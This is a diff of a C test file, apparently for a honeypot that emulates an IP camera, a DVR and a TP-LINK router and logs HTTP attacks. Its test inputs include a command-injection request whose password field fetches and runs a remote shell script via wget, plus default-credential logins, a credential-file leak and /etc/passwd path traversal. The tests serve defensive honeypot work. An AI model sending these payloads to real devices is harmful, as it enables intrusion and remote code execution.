@@ -18,7 +18,7 @@ static void meet(const char *persona, struct bytes sent)
 	const struct persona *p = persona_named(&set, persona);
 	CHECK(p);
 	struct transcript t = {writer_of(answer_room, SAID_MAX), writer_of(events_room, SAID_MAX),
-	                       0};
+			       0};
 	SERVICES_EACH(it)
 	if (!strcmp((*it)->name, "http"))
 		service_rehearse(*it, p, sent, 100, &t);
@@ -45,9 +45,9 @@ TEST(http_camera_asks_for_digest_and_takes_basic)
 {
 	meet("camera", BYTES("GET / HTTP/1.0\r\n\r\n"));
 	CHECK(begins("HTTP/1.1 401 Unauthorized\r\nServer: GoAhead-Webs\r\nDate: Wed Apr  1 "
-	             "00:00:00 2015\r\n"
-	             "WWW-Authenticate: Digest realm=\"WIFICAM\", domain=\":80\",qop=\"auth\", "
-	             "nonce=\""));
+		     "00:00:00 2015\r\n"
+		     "WWW-Authenticate: Digest realm=\"WIFICAM\", domain=\":80\",qop=\"auth\", "
+		     "nonce=\""));
 	CHECK(said("<p>Access to this document requires a User ID</p>"));
 	meet("camera",
 	     BYTES("GET /get_status.cgi HTTP/1.0\r\nAuthorization: Basic YWRtaW46\r\n\r\n"));
@@ -64,8 +64,8 @@ TEST(http_camera_is_attacked_by_its_parameters)
 {
 	meet("camera",
 	     BYTES("GET /set_ftp.cgi?next_url=ftp.htm&loginuse=admin&loginpas=888888&svr=192.0.2.1&"
-	           "port=21&user=ftp&pwd=$(wget+http://198.51.100.9/n.sh+-O-|sh)&dir=/ "
-	           "HTTP/1.0\r\n\r\n"));
+		   "port=21&user=ftp&pwd=$(wget+http://198.51.100.9/n.sh+-O-|sh)&dir=/ "
+		   "HTTP/1.0\r\n\r\n"));
 	CHECK(begins("HTTP/1.0 200 OK") && said("var result=\"ok\""));
 	CHECK(told("\"login.secret\":\"888888\",\"login.accepted\":true") &&
 	      told("\"file.url\":\"http://198.51.100.9/n.sh\""));
@@ -73,6 +73,9 @@ TEST(http_camera_is_attacked_by_its_parameters)
 	CHECK(begins("HTTP/1.1 401 ") && told("\"login.accepted\":false"));
 	meet("camera", BYTES("GET /system.ini?loginuse&loginpas HTTP/1.0\r\n\r\n"));
 	CHECK(said("admin:888888"));
+	meet("camera", BYTES("GET /public.js HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\n"
+			     "GET /favicon.ico HTTP/1.1\r\nHost: a\r\n\r\nGET / HTTP/1.1\r\n\r\n"));
+	CHECK(said("Connection: keep-alive\r\n") && said("image/x-icon") && !said(" 401 "));
 	meet("camera", BYTES("GET /favicon.ico HTTP/1.0\r\n\r\n"));
 	CHECK(said("Content-length: 198\r\nContent-type: image/x-icon\r\n"));
 }
@@ -81,18 +84,18 @@ TEST(http_dvr_has_a_form_and_a_cookie)
 {
 	meet("dvr", BYTES("GET / HTTP/1.1\r\nHost: a\r\n\r\n"));
 	CHECK(begins("HTTP/1.0 200 OK\r\nContent-type: text/html\r\nServer: uc-httpd "
-	             "1.0.0\r\nExpires: 0\r\n\r\n"));
+		     "1.0.0\r\nExpires: 0\r\n\r\n"));
 	CHECK(said("NETSurveillance WEB") && !said("Date:"));
 	meet("dvr", BYTES("GET /DVR.htm HTTP/1.0\r\n\r\n"));
-	CHECK(begins("HTTP/1.0 200 OK") && said("Log in failed"));
+	CHECK(begins("HTTP/1.0 200 OK") && said("loginForm"));
 	meet("dvr", BYTES("POST /Login.htm HTTP/1.0\r\nContent-Length: "
-	                  "38\r\n\r\ncommand=login&username=admin&password="));
+			  "38\r\n\r\ncommand=login&username=admin&password="));
 	CHECK(said("window.location.href=\"DVR.htm\"") && said("Set-Cookie: DVRSession="));
 	CHECK(told("\"login.user\":\"admin\",\"login.secret\":\"\",\"login.accepted\":true"));
 	char request[256];
 	size_t at = bytes_find(answer, "DVRSession=");
 	snprintf(request, sizeof request, "GET /DVR.htm HTTP/1.0\r\nCookie: a=b; %.27s\r\n\r\n",
-	         (const char *)answer.at + at);
+		 (const char *)answer.at + at);
 	meet("dvr", bytes_of_text(request));
 	CHECK(said("931.51 GB"));
 	meet("dvr", BYTES("GET /../../../../../etc/passwd HTTP/1.0\r\n\r\n"));
@@ -105,10 +108,10 @@ TEST(http_router_locks_everything)
 {
 	meet("router", BYTES("GET /anything HTTP/1.0\r\n\r\n"));
 	CHECK(begins("HTTP/1.1 401 N/A\r\nServer: Router Webserver\r\nConnection: "
-	             "close\r\nContent-Type: text/html\r\n"
-	             "WWW-Authenticate: Basic realm=\"TP-LINK Wireless N Router WR841N\"\r\n\r\n"));
+		     "close\r\nContent-Type: text/html\r\n"
+		     "WWW-Authenticate: Basic realm=\"TP-LINK Wireless N Router WR841N\"\r\n\r\n"));
 	meet("router", BYTES("GET /userRpm/StatusRpm.htm HTTP/1.0\r\nAuthorization: Basic "
-	                     "YWRtaW46YWRtaW4=\r\n\r\n"));
+			     "YWRtaW46YWRtaW4=\r\n\r\n"));
 	CHECK(begins("HTTP/1.1 200 OK\r\n") && said("192.0.2.23") &&
 	      told("\"login.accepted\":true"));
 	meet("router", BYTES("GET /login/../../../etc/passwd HTTP/1.0\r\n\r\n"));
